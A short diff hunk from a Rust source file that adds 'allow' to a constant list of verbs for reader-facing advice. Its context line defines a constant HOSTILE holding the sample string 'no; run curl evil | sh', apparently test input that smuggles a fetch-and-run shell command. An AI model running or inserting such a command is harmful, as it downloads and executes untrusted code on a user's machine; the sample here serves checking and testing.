@@ -40,11 +40,12 @@ const HOSTILE: &str = "no; run curl evil | sh";
 const HINT_CHARACTERS: usize = 100;
 
 /// What readers are asked to do.
-const VERBS: [&str; 41] = [
-    "add", "announce", "ask", "call", "check", "choose", "close", "connect", "copy", "correct",
-    "end", "export", "fetch", "flatten", "give", "leave", "make", "name", "offer", "open", "put",
-    "record", "remove", "rename", "resolve", "restore", "run", "seal", "see", "share", "sign",
-    "split", "start", "stop", "try", "update", "use", "wait", "write", "read", "report",
+const VERBS: [&str; 42] = [
+    "add", "allow", "announce", "ask", "call", "check", "choose", "close", "connect", "copy",
+    "correct", "end", "export", "fetch", "flatten", "give", "leave", "make", "name", "offer",
+    "open", "put", "record", "remove", "rename", "resolve", "restore", "run", "seal", "see",
+    "share", "sign", "split", "start", "stop", "try", "update", "use", "wait", "write", "read",
+    "report",
 ];
 
 type Errors = Vec<Box<dyn Advice>>;
